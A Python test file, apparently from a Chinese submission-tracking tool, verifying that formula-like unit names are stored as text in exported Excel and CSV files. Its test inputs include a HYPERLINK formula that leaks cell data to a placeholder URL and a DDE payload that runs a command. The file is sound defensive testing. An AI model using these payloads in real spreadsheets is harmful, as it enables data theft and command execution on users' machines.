"""Formula injection: a unit's name that starts like a formula, received as JSON and as a Word
报送单, goes into the tally's and the statistics' .xlsx as text (never a formula) and into their
.csv marked as text; numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from support.builders import fill_form, write_json
from support.builders import run_main as run

from zwdesk.core.celltext import csv_cell, looks_like_formula
from zwdesk.core.csvfile import write_csv
from zwdesk.core.xlsxfile import save_workbook

HYPERLINK = '=HYPERLINK("http://x"&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


def tally(db: Path, capsys, target: Path) -> Path:  # noqa: ANN001
    """``zwdesk tally`` of March 2023 into ``target``."""
    status, _, err = run(db, capsys, "tally", "--from", "2023-03-01", "--to", "2023-03-31",
                         "-o", str(target))
    assert status == 0, err
    return target


def all_cells(path: Path) -> list:  # noqa: ANN401 - openpyxl cells
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


@pytest.fixture
def hostile_units(db_with_sample, tmp_path, capsys) -> Path:  # noqa: ANN001
    """Two units named like formulas: one sent a JSON file, the other a filled 报送单."""
    json_file = write_json(tmp_path / "来稿.json", {
        "format": "zwdesk-submission", "version": 1, "unit": HYPERLINK, "date": "2023-03-15",
        "items": [{"text": "第一条。"}, {"text": "第二条。"}]})
    status, _, err = run(db_with_sample, capsys, "form", "-o", str(tmp_path / "空白.docx"))
    assert status == 0, err
    form = fill_form(tmp_path / "空白.docx", tmp_path / "报送单.docx",
                     [("", "窗口延时服务20次。")], unit=DDE)
    status, out, err = run(db_with_sample, capsys, "inbox", "add", str(json_file), str(form))
    assert status == 0, err
    assert len(out) == 3
    return db_with_sample


def test_the_tally_xlsx_holds_the_names_as_text(hostile_units, tmp_path, capsys) -> None:  # noqa: ANN001
    target = tally(hostile_units, capsys, tmp_path / "报送情况.xlsx")
    cells = all_cells(target)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    by_value = {cell.value: cell for cell in cells}
    for name in (HYPERLINK, DDE):
        assert by_value[name].data_type == "s" and by_value[name].quotePrefix
    sheet = load_workbook(target).active
    rows = {row[0]: row[1:] for row in sheet.iter_rows(min_row=3, values_only=True)}
    assert rows[HYPERLINK] == (2, 0, 0) and rows[DDE] == (1, 0, 0)
    assert rows["合计"] == (3, 0, 0)
    assert all(isinstance(v, int) for v in rows["合计"])  # numbers stay numbers


def test_the_tally_csv_marks_them_as_text(hostile_units, tmp_path, capsys) -> None:  # noqa: ANN001
    target = tally(hostile_units, capsys, tmp_path / "报送情况.csv")
    rows = read_csv(target)
    assert rows[0] == ["单位", "报送", "采用", "采用率"]
    assert ["'" + HYPERLINK, "2", "0", "0.0%"] in rows
    assert ["'" + DDE, "1", "0", "0.0%"] in rows
    assert rows[-1] == ["合计", "3", "0", "0.0%"]


@pytest.mark.parametrize("text", [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1",
                                  "\r=1+1", "=1"])
def test_every_start_of_a_formula_is_text(text, tmp_path) -> None:  # noqa: ANN001
    assert looks_like_formula(text) and csv_cell(text) == "'" + text
    book = Workbook()
    book.active.append([text, 5, -3, 2.5, "#N/A"])
    book.active.cell(2, 1, text)  # set directly too
    save_workbook(book, tmp_path / "x.xlsx")
    sheet = load_workbook(tmp_path / "x.xlsx").active
    assert [(c.value, c.data_type) for c in sheet[1]] == [
        (text, "s"), (5, "n"), (-3, "n"), (2.5, "n"), ("#N/A", "s")]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (text, "s")
    write_csv(tmp_path / "x.csv", [[text, 5, -3, "-3", "33.3%", "窗口"]])
    assert read_csv(tmp_path / "x.csv") == [["'" + text, "5", "-3", "-3", "33.3%", "窗口"]]


@pytest.mark.parametrize("text", ["-3", "+12", "33.3%", "-0.5", "窗口", "a=b", ""])
def test_numbers_and_plain_text_are_left_alone(text) -> None:  # noqa: ANN001
    assert not looks_like_formula(text) and csv_cell(text) == text


def test_the_stats_workbooks_go_through_the_same_door(tmp_path) -> None:  # noqa: ANN001
    """The statistics' writers (the table and the window's charts) save through
    save_workbook: a text cell that looks like a formula is stored as text there too."""
    from zwdesk.core import statsbook
    from zwdesk.core.stats import ChartData, Series

    line = Series(name=DDE, points=[(1, 5), (2, 7)], labels={})
    chart = ChartData(title=HYPERLINK, series=[line], ticks=[], slots={1: "=1+1", 2: "第2期"})
    statsbook.write_charts_xlsx(tmp_path / "图表.xlsx", [chart])
    cells = all_cells(tmp_path / "图表.xlsx")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value: c.data_type for c in cells if c.value is not None}
    assert values[HYPERLINK] == values[DDE] == values["=1+1"] == "s"
    assert values[5] == values[7] == "n"
